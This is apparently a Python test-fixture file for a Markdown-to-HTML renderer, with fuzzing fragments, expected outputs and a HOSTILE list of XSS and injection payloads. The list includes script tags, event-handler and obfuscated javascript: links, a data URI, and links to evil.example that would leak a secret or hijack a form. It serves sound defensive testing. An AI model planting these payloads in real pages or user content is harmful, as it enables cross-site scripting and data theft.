"""Markdown to try a renderer with: random pieces, hostile text, and how each kind of text shows."""

PIECES = [
    "word ",
    "two words\n",
    "\n",
    "\n\n",
    "# ",
    "## Title\n",
    "- item\n",
    "- ",
    "  - nested\n",
    "1. first\n",
    "2. ",
    "   continued\n",
    "> quote\n",
    "> ",
    "```",
    "```py\n",
    "~~~\n",
    "code()\n",
    "    deep\n",
    "**",
    "*",
    "_",
    "__",
    "~~",
    "`",
    "``",
    "[text](https://a.example/b)",
    "[",
    "](",
    ")",
    "![alt](https://a.example/i.png)",
    "<b>",
    "&amp;",
    "https://example.com/a_b.",
    "| a | b |\n",
    "|---|:-:|\n",
    "| 1 | 2 |\n",
    "|",
    "---\n",
    "***\n",
    "\\",
    "\t",
    "\r\n",
    "é",
    "😀",
    "- [x] done\n",
    "3) three\n",
    "[text]",
    "[b][text]",
    "[text]: https://a.example/d\n",
    "[b]: https://a.example/e 'title'\n",
    "[b]:\n",
    "> [text]: https://a.example/f\n",
    "'title\n",
    "===\n",
    "- [text]\n\n",
    "> > deep\n",
    "| [text] | <br> |\n",
    "[^1]",
    "[^1]: note\n",
    "> [^2]: note [^1]\n",
    "&nbsp;",
    "<br>",
    "<sub>",
    "</sub>",
    "<kbd>*a</kbd>",
    "**重要：**请",
    "\\(",
    "$",
    "\u202e",
]
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked=1'>",
    "<svg onload=window.hacked=1>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](java\nscript:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)",
    "[x](<javascript:window.hacked=1>)",
    "[x](data:text/html,<script>window.hacked=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[x](vbscript:window.hacked=1)",
    "[https://bank.example/](https://evil.example/)",
    "https://fine.example/",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/v1/logout)",
    "<javascript:window.hacked=1>",
    "![x](javascript:window.hacked=1)",
    "![](https://evil.example/?q=secret)",
    '![x](https://evil.example/a.png "t")',
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    '[x](https://a.example/" onmouseover="window.hacked=1)',
    '```"><script>window.hacked=1</script>\ncode\n```',
    '<iframe src="javascript:window.hacked=1"></iframe>',
    '<a href="javascript:window.hacked=1" id=app>x</a>',
    "<form action=//evil.example><input name=key></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example>",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| [x](javascript:window.hacked=1) |",
    "- <img src=x onerror=window.hacked=1>\n  > [x](javascript:window.hacked=1)",
    "https://evil.example/<script>window.hacked=1</script>",
    "\x00<script\x00>window.hacked=1</script>",
]
CODE = (
    '<div class="code"><div class="code-head"><span>{0}</span>'
    '<button type="button" class="quiet wrap-code" aria-label="Wrap {0} code" '
    'aria-pressed="false">Wrap</button>'
    '<button type="button" class="quiet copy-code" aria-label="Copy {0} code">Copy</button></div>'
    '<pre tabindex="0" role="group" aria-label="{0} code"><code>{1}</code></pre></div>'
)
LINK = '<a href="{0}" rel="noopener noreferrer nofollow" target="_blank"{2}>{1}</a>'
KINDS = {
    "**重要：**请注意": "<p><strong>重要：</strong>请注意</p>",
    "*强调* and *word*": '<p><em class="dotted">强调</em> and <em>word</em></p>',
    "见 https://example.com/a，谢谢。": "<p>见 "
    + LINK.format("https://example.com/a", "https://example.com/a", "")
    + "，谢谢。</p>",
    "**https://a.example/b**": "<p><strong>"
    + LINK.format("https://a.example/b", "https://a.example/b", "")
    + "</strong></p>",
    "a<br>b<br/>\nc": "<p>a<br>b<br>c</p>",
    "|a|\n|-|\n|b<BR>c|": '<div class="table" tabindex="0" role="group" aria-label="Table"><table><thead><tr>'
    '<th class="short">a</th></tr></thead><tbody><tr><td class="short">b<br>c</td></tr></tbody></table>'
    "</div>",
    "H<sub>2</sub>O, x<SUP>*i*<sub>1</sub></SUP>, <kbd>Ctrl</kbd>": "<p>H<sub>2</sub>O, x<sup><em>i</em>"
    "<sub>1</sub></sup>, <kbd>Ctrl</kbd></p>",
    "a <sub>b *c</sub>d*": "<p>a <sub>b *c</sub>d*</p>",
    "a <sub>b</sup> <sub id=x>c</sub> <kbd></kbd> `<kbd>`d</kbd>": "<p>a &lt;sub&gt;b&lt;/sup&gt; &lt;sub "
    "id=x&gt;c&lt;/sub&gt; &lt;kbd&gt;&lt;/kbd&gt; <code>&lt;kbd&gt;</code>d&lt;/kbd&gt;</p>",
    "[a<sub>b](/c)</sub>": "<p>[a<sub>b](/c)</sub></p>",
    "a&nbsp;b &amp; &lt;c&gt; `&amp;`": "<p>a&nbsp;b &amp; &lt;c&gt; <code>&amp;amp;</code></p>",
    "Roses are red,\nviolets are blue,\n\nsugar": "<p>Roses are red,<br>violets are blue,</p><p>sugar</p>",
    "Run:\n\n    make up\n    make test\n": "<p>Run:</p>" + CODE.format("text", "make up\nmake test"),
    "```py title=a\nx\n```": CODE.format("py", "x"),
    "- [x] done\n- [ ] **not**\n- [x]none": '<ul><li class="task">☑ done</li><li class="task">☐ <strong>not'
    "</strong></li><li>[x]none</li></ul>",
    "1. a\n\n2. b": "<ol><li><p>a</p></li><li><p>b</p></li></ol>",
    "~~gone~~ ~stays~": "<p><del>gone</del> ~stays~</p>",
    "![a *b*](https://a.example/i.png)": "<p>"
    + LINK.format("https://a.example/i.png", "a b", ' title="https://a.example/i.png"')
    + "</p>",
    "[a](/b) [c](javascript:d) [e](blob:https://f)": "<p>a c e</p>",
    "see [a][b]\n\n[b]: https://a.example/b": "<p>see "
    + LINK.format("https://a.example/b", "a", ' title="https://a.example/b"')
    + "</p>",
    "a[^x] b[^2]\n\n[^x]: Word\nmore": '<p>a<sup><button type="button" class="note-mark" data-note="1" '
    'aria-label="Note 1">1</button></sup> b[^2]</p><div class="footnote"><button type="button" '
    'class="note-number" data-note="1" aria-label="Back to where note 1 belongs">1</button>'
    "<p>Word<br>more</p></div>",
    "### Deep first\n\n# Top\n\nDeeper\n---\n": '<h3 class="level-3">Deep first</h3>'
    '<h3 class="level-1">Top</h3><h4 class="level-2">Deeper</h4>',
    "> - a\n>   > b": "<blockquote><ul><li>a<blockquote><p>b</p></blockquote></li></ul></blockquote>",
    "<b>a</b>\r\n\0b": "<p>&lt;b&gt;a&lt;/b&gt;<br>\ufffdb</p>",
}
